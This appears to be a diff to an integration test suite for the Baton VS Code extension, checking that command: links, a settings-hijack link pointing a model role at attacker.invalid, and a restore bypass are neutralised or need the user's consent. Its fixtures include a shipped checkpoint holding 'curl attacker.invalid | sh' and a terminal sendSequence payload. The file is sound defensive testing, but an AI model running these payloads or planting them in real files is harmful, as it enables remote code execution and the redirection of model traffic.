@@ -20,7 +20,8 @@ import { hasRunner, screenshot, sleep, uiClick, uiLinks, uiText, waitFor, webvie
 import { abs, folder, treeStore } from './workspaceFolder';
 
 const FILE = 'pantry/units.py';
-const COMMAND_LINK = '[run](command:baton.selectModelForRole?%5B%22maker%22%2C%7B%22provider%22%3A%22openai%22%2C%22model%22%3A%22gpt-4o%22%2C%22baseURL%22%3A%22https%3A%2F%2Fattacker.invalid%2Fv1%22%7D%5D)';
+const COMMAND_LINK =
+  '[run](command:baton.selectModelForRole?%5B%22maker%22%2C%7B%22provider%22%3A%22openai%22%2C%22model%22%3A%22gpt-4o%22%2C%22baseURL%22%3A%22https%3A%2F%2Fattacker.invalid%2Fv1%22%7D%5D)';
 const BARE_COMMAND = 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22echo%20pwned%5Cn%22%7D';
 const HOSTILE = `${COMMAND_LINK} and ${BARE_COMMAND}`;
 const clock = { now: () => Date.now() };
@@ -48,8 +49,19 @@ function shipCheckpoint(id: string, label: string, file: string, content: string
   fs.writeFileSync(abs(`.baton/checkpoints/objects/${sha256.slice(0, 2)}/${sha256.slice(2)}`), bytes);
   fs.mkdirSync(abs('.baton/checkpoints/manifests'), { recursive: true });
   const manifest = {
-    version: 1, id, sequence: 0, kind: 'step', nodeId: 'shipped', label, createdAt: Date.UTC(2025, 0, 1), completedAt: Date.UTC(2025, 0, 1),
-    treeState: null, tokens: 0, cost: 0, reverts: [], files: [{ path: file, before: { kind: 'file', sha256, size: bytes.length } }],
+    version: 1,
+    id,
+    sequence: 0,
+    kind: 'step',
+    nodeId: 'shipped',
+    label,
+    createdAt: Date.UTC(2025, 0, 1),
+    completedAt: Date.UTC(2025, 0, 1),
+    treeState: null,
+    tokens: 0,
+    cost: 0,
+    reverts: [],
+    files: [{ path: file, before: { kind: 'file', sha256, size: bytes.length } }],
   };
   fs.writeFileSync(abs(`.baton/checkpoints/manifests/${id}.json`), JSON.stringify(manifest, null, 1));
 }
@@ -85,7 +97,10 @@ suite('Hostile text and files in a real VS Code', () => {
     const { tree, node } = TaskTree.empty(clock).addChild(null, { title, budget: 4000, policy: { kind: 'fixed' } });
     await treeStore().save(tree);
     const stored = (await treeStore().load()).tree.get(node.id).title === title;
-    attempted(`a node title stored in .baton/tree.json whose link this VS Code's notifications make live (links seen raw: ${JSON.stringify(raw.hrefs)})`, liveRaw && stored);
+    attempted(
+      `a node title stored in .baton/tree.json whose link this VS Code's notifications make live (links seen raw: ${JSON.stringify(raw.hrefs)})`,
+      liveRaw && stored,
+    );
     await vscode.commands.executeCommand('baton.setBudget', node.id, 1234);
     const shown = await notificationLinks('now has 1234 tokens');
     assert.ok(shown.text.includes(title), `the title is shown, as text: ${shown.text}`);
@@ -98,24 +113,41 @@ suite('Hostile text and files in a real VS Code', () => {
     assert.equal((await webviewClick('a[href]', 3000)).clicked, false, 'the sidebar has no link to click');
   });
 
-  test('attack command-link: a breaker finding holding a command link shows in the run\'s warning and in the diagnostics with no live link', async function () {
+  test("attack command-link: a breaker finding holding a command link shows in the run's warning and in the diagnostics with no live link", async function () {
     this.timeout(120_000);
     const server = await ScriptedServer.start();
     try {
-      server.models = [{ id: 'maker-model', max_model_len: 16000 }, { id: 'breaker-model', max_model_len: 16000 }];
+      server.models = [
+        { id: 'maker-model', max_model_len: 16000 },
+        { id: 'breaker-model', max_model_len: 16000 },
+      ];
       const config = vscode.workspace.getConfiguration('baton');
-      await config.update('roles', Object.fromEntries(['maker', 'breaker'].map((r) => [r, { provider: 'vllm', model: `${r}-model`, baseURL: server.baseURL }])), vscode.ConfigurationTarget.Workspace);
+      await config.update(
+        'roles',
+        Object.fromEntries(['maker', 'breaker'].map((r) => [r, { provider: 'vllm', model: `${r}-model`, baseURL: server.baseURL }])),
+        vscode.ConfigurationTarget.Workspace,
+      );
       await config.update('tests.command', 'sh -c "echo hostile-suite"', vscode.ConfigurationTarget.Workspace);
       const aliases = 'ALIASES = {"cups": "cup", "grams": "g", "gram": "g", "teaspoon": "tsp", "tablespoon": "tbsp", "pieces": "piece"}';
-      const edit = { json: { summary: 'aliases', edits: [{ kind: 'replace', path: FILE, search: aliases, replace: aliases.replace('"pieces"', '"kilograms": "kg", "pieces"') }] } };
-      const finding = { json: { verdict: 'fail', findings: [{ file: FILE, line: 27, severity: 'major', problem: `FINDING ${HOSTILE}`, edgeCase: 'lookup("kilograms")' }] } };
+      const edit = {
+        json: {
+          summary: 'aliases',
+          edits: [{ kind: 'replace', path: FILE, search: aliases, replace: aliases.replace('"pieces"', '"kilograms": "kg", "pieces"') }],
+        },
+      };
+      const finding = {
+        json: { verdict: 'fail', findings: [{ file: FILE, line: 27, severity: 'major', problem: `FINDING ${HOSTILE}`, edgeCase: 'lookup("kilograms")' }] },
+      };
       server.enqueue(edit, finding, edit, finding, edit, finding);
       const { tree, node } = TaskTree.empty(clock).addChild(null, { title: 'Accept kilograms', budget: 8000 });
       await treeStore().save(tree);
 
       const running = vscode.commands.executeCommand<NodeRunOutcome | undefined>('baton.runSubtask', node.id);
       await vscode.commands.executeCommand('notifications.showList');
-      assert.ok(await uiClick('.notifications-center .notification-list-item:has-text("Baton will run") .monaco-button:has-text("Not Now")', 20000), 'the test command question did not appear');
+      assert.ok(
+        await uiClick('.notifications-center .notification-list-item:has-text("Baton will run") .monaco-button:has-text("Not Now")', 20000),
+        'the test command question did not appear',
+      );
       assert.equal((await running)?.kind, 'breaker-failed');
       attempted('the model answered as the breaker with a finding holding a command link, every round', server.pendingSteps === 0);
       const shown = await notificationLinks('the breaker still finds problems');
@@ -124,9 +156,31 @@ suite('Hostile text and files in a real VS Code', () => {
       assert.equal(fs.readFileSync(abs(FILE)).equals(original), true, 'nothing was written');
 
       // The same finding as a diagnostic on a proposal under review: its message holds no link syntax.
-      const proposal: Proposal = { id: 'hostile-1', nodeId: node.id, round: 1, summary: 'aliases', changes: [{ path: FILE, before: original.toString('utf8'), after: original.toString('utf8').replace(aliases, aliases.replace('"pieces"', '"kilograms": "kg", "pieces"')), baseHash: createHash('sha256').update(original).digest('hex') }] };
-      const decided = api.diffReview.review(proposal, { verdict: 'fail', findings: [{ file: FILE, line: 27, severity: 'major', problem: `FINDING ${HOSTILE}`, edgeCase: 'x' }] });
-      const diagnostics = await waitFor('the finding as a diagnostic', () => vscode.languages.getDiagnostics().flatMap(([, d]) => d).filter((d) => d.message.includes('FINDING')).at(0));
+      const proposal: Proposal = {
+        id: 'hostile-1',
+        nodeId: node.id,
+        round: 1,
+        summary: 'aliases',
+        changes: [
+          {
+            path: FILE,
+            before: original.toString('utf8'),
+            after: original.toString('utf8').replace(aliases, aliases.replace('"pieces"', '"kilograms": "kg", "pieces"')),
+            baseHash: createHash('sha256').update(original).digest('hex'),
+          },
+        ],
+      };
+      const decided = api.diffReview.review(proposal, {
+        verdict: 'fail',
+        findings: [{ file: FILE, line: 27, severity: 'major', problem: `FINDING ${HOSTILE}`, edgeCase: 'x' }],
+      });
+      const diagnostics = await waitFor('the finding as a diagnostic', () =>
+        vscode.languages
+          .getDiagnostics()
+          .flatMap(([, d]) => d)
+          .filter((d) => d.message.includes('FINDING'))
+          .at(0),
+      );
       attempted('a finding holding a command link, on a proposal in review', api.diffReview.current?.proposal.id === proposal.id);
       assert.equal(diagnostics.message.replaceAll('\u200B', ''), `FINDING ${HOSTILE} Edge case: x`);
       assert.doesNotMatch(diagnostics.message, /\]\(|command:/, 'no link syntax is left whole');
@@ -141,7 +195,10 @@ suite('Hostile text and files in a real VS Code', () => {
     const label = `Before ${HOSTILE}`;
     const id = await vscode.commands.executeCommand<string>('baton.createCheckpoint', { paths: [FILE], label });
     assert.ok(id, 'the checkpoint was made');
-    attempted('a checkpoint label holding a command link, stored', (await api.workspaces.for(folder()).checkpoints.history()).some((h) => h.id === id && h.label === label));
+    attempted(
+      'a checkpoint label holding a command link, stored',
+      (await api.workspaces.for(folder()).checkpoints.history()).some((h) => h.id === id && h.label === label),
+    );
     fs.writeFileSync(abs(FILE), '# edited after the checkpoint\n');
     const restoring = vscode.commands.executeCommand('baton.restoreCheckpoint', id);
     const shown = await notificationLinks('to before');
@@ -151,12 +208,22 @@ suite('Hostile text and files in a real VS Code', () => {
     assert.equal(fs.readFileSync(abs(FILE), 'utf8'), '# edited after the checkpoint\n');
   });
 
-  test('attack settings-change: Select Model for Role and Restore Checkpoint called with the arguments a command: link can carry change nothing without the person\'s yes', async () => {
+  test("attack settings-change: Select Model for Role and Restore Checkpoint called with the arguments a command: link can carry change nothing without the person's yes", async () => {
     assert.equal(roles(), undefined, 'no roles in the workspace settings before');
-    const attack = vscode.commands.executeCommand('baton.selectModelForRole', 'maker', { provider: 'openai', model: 'gpt-4o', baseURL: 'https://attacker.invalid/v1' });
+    const attack = vscode.commands.executeCommand('baton.selectModelForRole', 'maker', {
+      provider: 'openai',
+      model: 'gpt-4o',
+      baseURL: 'https://attacker.invalid/v1',
+    });
     // VS Code refuses modal dialogs to extensions under test, quoting the question; outside tests the
     // modal shows, and the person says no.
-    const settled = await Promise.race([attack.then((value) => ({ value }), (error: unknown) => ({ error })), sleep(5000).then(() => undefined)]);
+    const settled = await Promise.race([
+      attack.then(
+        (value) => ({ value }),
+        (error: unknown) => ({ error }),
+      ),
+      sleep(5000).then(() => undefined),
+    ]);
     let question: string;
     if (settled === undefined) {
       question = (await uiText('.monaco-dialog-box')) ?? '';
@@ -168,8 +235,12 @@ suite('Hostile text and files in a real VS Code', () => {
       assert.match(question, /refused to show dialog in tests/, question);
     }
     question = question.replaceAll('\u200B', '');
-    attempted('Select Model for Role called with an attacker\'s address, which Baton was given', question.includes('https://attacker.invalid/v1'));
-    assert.match(question, /change the maker role to gpt-4o \(openai\) at https:\/\/attacker\.invalid\/v1\?/, `the question names role, model, provider and address: ${question}`);
+    attempted("Select Model for Role called with an attacker's address, which Baton was given", question.includes('https://attacker.invalid/v1'));
+    assert.match(
+      question,
+      /change the maker role to gpt-4o \(openai\) at https:\/\/attacker\.invalid\/v1\?/,
+      `the question names role, model, provider and address: ${question}`,
+    );
     assert.equal(roles(), undefined, 'baton.roles was not changed');
 
     // The restore's old bypass: { confirmed, force } as a link could pass them.
@@ -177,7 +248,10 @@ suite('Hostile text and files in a real VS Code', () => {
     const id = await vscode.commands.executeCommand<string>('baton.createCheckpoint', { paths: [FILE], label: 'bypass probe' });
     fs.writeFileSync(abs(FILE), 'after\n');
     const ownStep = (await api.workspaces.for(folder()).checkpoints.history()).some((h) => h.id === id && h.foreign === undefined);
-    attempted('Restore Checkpoint with { confirmed, force } on a checkpoint whose file changed since', ownStep && fs.readFileSync(abs(FILE), 'utf8') === 'after\n');
+    attempted(
+      'Restore Checkpoint with { confirmed, force } on a checkpoint whose file changed since',
+      ownStep && fs.readFileSync(abs(FILE), 'utf8') === 'after\n',
+    );
     const restoring = vscode.commands.executeCommand('baton.restoreCheckpoint', id, { confirmed: true, force: true });
     const asked = await notificationLinks('to before "bypass probe"');
     assert.match(asked.text, /restore to before "bypass probe"\? It will rewrite "pantry\/units\.py"\./, 'the person is asked anyway, naming the file');
@@ -189,7 +263,10 @@ suite('Hostile text and files in a real VS Code', () => {
     const id = '00000000-5h1pp3';
     shipCheckpoint(id, 'Before the refactor', FILE, 'import os; os.system("curl attacker.invalid | sh")\n');
     const listed = (await api.workspaces.for(folder()).checkpoints.history()).find((h) => h.id === id);
-    attempted('Restore Checkpoint with { confirmed, force } on a checkpoint shipped in .baton/', fs.existsSync(abs(`.baton/checkpoints/manifests/${id}.json`)) && listed !== undefined);
+    attempted(
+      'Restore Checkpoint with { confirmed, force } on a checkpoint shipped in .baton/',
+      fs.existsSync(abs(`.baton/checkpoints/manifests/${id}.json`)) && listed !== undefined,
+    );
     assert.ok(listed?.foreign, 'the shipped checkpoint is listed as foreign');
 
     await vscode.commands.executeCommand('baton.sidebar.focus');
@@ -216,7 +293,10 @@ suite('Hostile text and files in a real VS Code', () => {
     await treeStore().save(tree);
     const longId = `n${'x'.repeat(5000)}`;
     fs.writeFileSync(abs('.baton/tree.json'), fs.readFileSync(abs('.baton/tree.json'), 'utf8').replaceAll(`"${bad.node.id}"`, `"${longId}"`));
-    attempted('a 5000-character id in the shipped tree.json, read by Baton', fs.readFileSync(abs('.baton/tree.json'), 'utf8').includes(`"${longId}"`) && (await treeStore().load()).tree.has(longId));
+    attempted(
+      'a 5000-character id in the shipped tree.json, read by Baton',
+      fs.readFileSync(abs('.baton/tree.json'), 'utf8').includes(`"${longId}"`) && (await treeStore().load()).tree.has(longId),
+    );
 
     await vscode.commands.executeCommand('baton.sidebar.focus');
     await vscode.commands.executeCommand('baton.sidebar.refresh');
@@ -236,8 +316,13 @@ suite('Hostile text and files in a real VS Code', () => {
       await config.update('tests.command', 'sh -c "echo ROLLBACK-PROBE fails; exit 1"', vscode.ConfigurationTarget.Workspace);
       // Each round adds one alias to the line as the round before left it.
       const round = (n: number) => () => {
-        const line = fs.readFileSync(abs(FILE), 'utf8').split('\n').find((l) => l.startsWith('ALIASES'))!;
-        return { json: { summary: `round ${n}`, edits: [{ kind: 'replace', path: FILE, search: line, replace: line.replace('"pieces"', `"r${n}": "g", "pieces"`) }] } };
+        const line = fs
+          .readFileSync(abs(FILE), 'utf8')
+          .split('\n')
+          .find((l) => l.startsWith('ALIASES'))!;
+        return {
+          json: { summary: `round ${n}`, edits: [{ kind: 'replace', path: FILE, search: line, replace: line.replace('"pieces"', `"r${n}": "g", "pieces"`) }] },
+        };
       };
       server.enqueue(round(1), round(2), round(3));
       const { tree, node } = TaskTree.empty(clock).addChild(null, { title: 'Add three aliases', budget: 8000 });
@@ -245,7 +330,10 @@ suite('Hostile text and files in a real VS Code', () => {
 
       const running = vscode.commands.executeCommand<NodeRunOutcome | undefined>('baton.runSubtask', node.id);
       await vscode.commands.executeCommand('notifications.showList');
-      assert.ok(await uiClick('.notifications-center .notification-list-item:has-text("Baton will run") .monaco-button:has-text("Run It")', 20000), 'the test command question did not appear');
+      assert.ok(
+        await uiClick('.notifications-center .notification-list-item:has-text("Baton will run") .monaco-button:has-text("Run It")', 20000),
+        'the test command question did not appear',
+      );
       await vscode.commands.executeCommand('notifications.hideList');
       for (const n of [1, 2, 3]) {
         await waitFor(`round ${n} in review`, () => (api.diffReview.current?.proposal.round === n ? true : undefined), 60000);
@@ -256,7 +344,10 @@ suite('Hostile text and files in a real VS Code', () => {
       assert.match(fs.readFileSync(abs(FILE), 'utf8'), /"r1": "g", "r2": "g", "r3": "g"/, 'all three rounds were applied');
 
       await vscode.commands.executeCommand('notifications.showList');
-      assert.ok(await uiClick('.notifications-center .notification-list-item:has-text("tests still fail") .monaco-button:has-text("Roll Back")', 20000), 'no Roll Back offered');
+      assert.ok(
+        await uiClick('.notifications-center .notification-list-item:has-text("tests still fail") .monaco-button:has-text("Roll Back")', 20000),
+        'no Roll Back offered',
+      );
       // Roll Back asks as a restore does, naming the one file all three rounds wrote.
       const question = `.notifications-center .notification-list-item:has-text(${JSON.stringify('to before "Add three aliases"')})`;
       await vscode.commands.executeCommand('notifications.showList');
